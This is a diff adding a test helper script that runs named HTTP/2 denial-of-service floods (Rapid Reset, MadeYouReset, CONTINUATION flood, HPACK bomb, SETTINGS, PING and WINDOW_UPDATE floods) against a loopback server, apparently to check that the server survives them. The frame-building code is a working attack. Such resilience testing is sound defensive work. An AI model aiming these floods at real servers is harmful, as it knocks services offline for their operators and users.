@@ -1,0 +1,162 @@
+// Child process for abuse.spec.ts: one attacker on loopback, in a process of its own (the test's probe client must
+// not share its event loop). Runs one named attack against 127.0.0.1:PORT for DURATION ms, one connection at a
+// time, opening a new one whenever the server cuts the last, then prints {"connections":N} and exits.
+// Plain JavaScript over the built @idgen/h2 (the server's test target builds it first).
+'use strict';
+const { connect } = require('node:net');
+const { encodeHeaders, ErrorCode, Flag, FrameType, PREFACE } = require('@idgen/h2');
+
+const [name, portText, durationText] = process.argv.slice(2);
+const port = Number(portText);
+const until = Date.now() + Number(durationText);
+
+function frame(type, flags, stream, payload = Buffer.alloc(0)) {
+  const head = Buffer.alloc(9);
+  head.writeUIntBE(payload.length, 0, 3);
+  head[3] = type;
+  head[4] = flags;
+  head.writeUInt32BE(stream, 5);
+  return Buffer.concat([head, payload]);
+}
+const word = (n) => {
+  const b = Buffer.alloc(4);
+  b.writeUInt32BE(n >>> 0);
+  return b;
+};
+const repeat = (n, make) => Buffer.concat(Array.from({ length: n }, (_, i) => make(i)));
+
+const GET = encodeHeaders([
+  [':method', 'GET'],
+  [':scheme', 'http'],
+  [':path', '/healthz'],
+  [':authority', 'a'],
+]);
+const NEXT_IDS = encodeHeaders([
+  [':method', 'POST'],
+  [':scheme', 'http'],
+  [':path', '/idgen.v1.IdGenerator/NextIds'],
+  [':authority', 'a'],
+  ['content-type', 'application/grpc'],
+  ['te', 'trailers'],
+]);
+
+/** Stream ids from 1 for one connection. */
+function ids() {
+  let next = 1;
+  return () => {
+    const id = next;
+    next += 2;
+    return id;
+  };
+}
+/** 128 NextIds calls left open (no body): what a SETTINGS frame walks, and what fills the stream limit. */
+const hold128 = (id) => repeat(128, () => frame(FrameType.HEADERS, Flag.END_HEADERS, id(), NEXT_IDS));
+
+// Each attack, for one fresh connection: what it sends first, and the next chunk of its flood.
+const ATTACKS = {
+  continuation: () => {
+    const flood = repeat(4_096, () => frame(FrameType.CONTINUATION, 0, 1));
+    return { opening: frame(FrameType.HEADERS, 0, 1, NEXT_IDS.subarray(0, 2)), chunk: () => flood };
+  },
+  'hpack-bomb': () => {
+    const id = ids();
+    const name = Buffer.from('x-bomb');
+    // A literal with incremental indexing and a new name (RFC 7541 §6.2.1), value of 4,000 = 127 + 33 + 30 × 128.
+    const insert = Buffer.concat([Buffer.from([0x40, name.length]), name, Buffer.from([0x7f, 0x80 | 33, 30]), Buffer.alloc(4_000, 0x61)]);
+    const refs = Buffer.alloc(8_000, 0xbe); // index 62: the 4 KB entry
+    return {
+      opening: frame(FrameType.HEADERS, Flag.END_HEADERS | Flag.END_STREAM, id(), Buffer.concat([GET, insert])),
+      chunk: () => {
+        const stream = id();
+        return Buffer.concat([frame(FrameType.HEADERS, Flag.END_STREAM, stream, Buffer.concat([GET, refs])), frame(FrameType.CONTINUATION, Flag.END_HEADERS, stream, refs)]);
+      },
+    };
+  },
+  settings: () => {
+    const id = ids();
+    const big = frame(FrameType.SETTINGS, 0, 0, repeat(2_730, (i) => Buffer.from([0, 4, 0, 0, 0x10, i & 0xff])));
+    return { opening: hold128(id), chunk: () => big };
+  },
+  'made-you-reset': () => {
+    const id = ids();
+    return {
+      chunk: () =>
+        repeat(64, () => {
+          const stream = id();
+          return Buffer.concat([frame(FrameType.HEADERS, Flag.END_HEADERS, stream, NEXT_IDS), frame(FrameType.WINDOW_UPDATE, 0, stream, word(0))]);
+        }),
+    };
+  },
+  'rapid-reset': () => {
+    const id = ids();
+    return {
+      chunk: () =>
+        repeat(64, () => {
+          const stream = id();
+          return Buffer.concat([frame(FrameType.HEADERS, Flag.END_HEADERS, stream, NEXT_IDS), frame(FrameType.RST_STREAM, 0, stream, word(ErrorCode.CANCEL))]);
+        }),
+    };
+  },
+  'stream-limit': () => {
+    const id = ids();
+    return { opening: hold128(id), chunk: () => repeat(64, () => frame(FrameType.HEADERS, Flag.END_HEADERS | Flag.END_STREAM, id(), GET)) };
+  },
+  ping: () => {
+    const flood = repeat(2_048, () => frame(FrameType.PING, 0, 0, Buffer.alloc(8)));
+    return { chunk: () => flood };
+  },
+  'empty-data': () => {
+    const flood = repeat(4_096, () => frame(FrameType.DATA, 0, 1));
+    return { opening: frame(FrameType.HEADERS, Flag.END_HEADERS, 1, NEXT_IDS), chunk: () => flood };
+  },
+  'window-update': () => {
+    const flood = repeat(2_048, () => frame(FrameType.WINDOW_UPDATE, 0, 0, word(1)));
+    return { chunk: () => flood };
+  },
+  'unknown-type': () => {
+    const flood = repeat(2_048, () => frame(0x42, 0, 0, Buffer.alloc(8)));
+    return { chunk: () => flood };
+  },
+};
+
+const make = ATTACKS[name];
+if (make === undefined) {
+  process.stderr.write(`abuse-attacker: no attack named ${name}; known: ${Object.keys(ATTACKS).join(', ')}\n`);
+  process.exit(2);
+}
+
+function once() {
+  return new Promise((resolve) => {
+    const attack = make();
+    const socket = connect(port, '127.0.0.1');
+    let open = true;
+    const stopAt = setTimeout(() => socket.destroy(), Math.max(0, until - Date.now()));
+    const finish = () => {
+      if (!open) return;
+      open = false;
+      clearTimeout(stopAt);
+      socket.destroy();
+      resolve();
+    };
+    socket.on('error', finish);
+    socket.on('close', finish);
+    socket.on('data', () => undefined);
+    socket.on('connect', () => {
+      socket.write(Buffer.concat([PREFACE, frame(FrameType.SETTINGS, 0, 0), attack.opening ?? Buffer.alloc(0)]));
+      const more = () => {
+        while (open && !socket.destroyed && socket.write(attack.chunk()));
+      };
+      socket.on('drain', more);
+      more();
+    });
+  });
+}
+
+(async () => {
+  let connections = 0;
+  while (Date.now() < until) {
+    connections++;
+    await once();
+  }
+  process.stdout.write(`${JSON.stringify({ connections })}\n`);
+})();
